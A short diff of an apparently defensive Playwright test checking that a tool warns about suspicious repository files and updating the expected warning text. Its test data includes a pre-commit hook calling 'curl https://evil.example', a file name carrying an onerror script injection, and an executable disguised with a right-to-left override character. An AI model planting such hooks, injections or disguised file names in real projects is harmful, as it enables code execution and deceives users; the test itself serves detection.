@@ -92,7 +92,8 @@ test(
     await files.first().waitFor();
     expect(await files.first().textContent()).toContain('.git/hooks/pre-commit');
     await files.first().getByText('curl https://evil.example').waitFor();
-    await page.getByText('would be run by your own tools').waitFor();
+    await page.getByText('would be run by your own tools without anybody asking them to').waitFor();
+    await page.getByText('would be run by your own tools (scripts, hooks, CI)').waitFor();
     await page.getByText('<img src=x onerror=alert("name")>.html').waitFor();
     await page.getByText('invoice⟨U+202E⟩fdp.exe').waitFor();
     for (const name of ['onerror', 'long-line.txt', 'many-lines.txt'])
